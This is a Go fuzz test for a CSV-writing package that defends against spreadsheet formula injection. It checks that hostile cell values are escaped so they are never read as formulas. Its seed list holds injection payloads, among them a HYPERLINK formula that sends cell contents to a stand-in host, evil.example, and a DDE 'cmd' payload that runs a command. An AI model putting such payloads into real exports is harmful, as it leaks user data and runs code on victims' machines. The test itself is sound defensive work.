package csvsafe

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// FuzzCSVCell writes any text as a cell and reads it back: the reader gets
// the text, with a quote in front exactly when it would start a formula.
// hostile are learner names a spreadsheet would run as formulas.
var hostile = []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "  =1+1", "=cmd|' /C calc'!A0"}

// Every text cell reads back, through encoding/csv, as Safe wrote it, and
// never as a formula; a number cell reads back as the number.
func FuzzCSVCell(f *testing.F) {
	for _, s := range append(hostile, "", "plain", "a,b", `"q"`, "line\nbreak", " lead", "-0.5", "'x") {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var b bytes.Buffer
		cw := NewWriter(&b)
		cw.Write([]Cell{TextCell(s), NumCell(-1)})
		require.NoError(t, cw.Err())
		r := csv.NewReader(&b)
		r.LazyQuotes = false
		rec, err := r.Read()
		require.NoError(t, err, "%q", b.String())
		require.Len(t, rec, 2)
		want := Safe(s)
		// encoding/csv reads \r\n inside a quoted field as \n.
		want = strings.ReplaceAll(want, "\r\n", "\n")
		assert.Equal(t, want, rec[0])
		assert.False(t, IsFormula(rec[0]))
		assert.Equal(t, "-1", rec[1])
	})
}
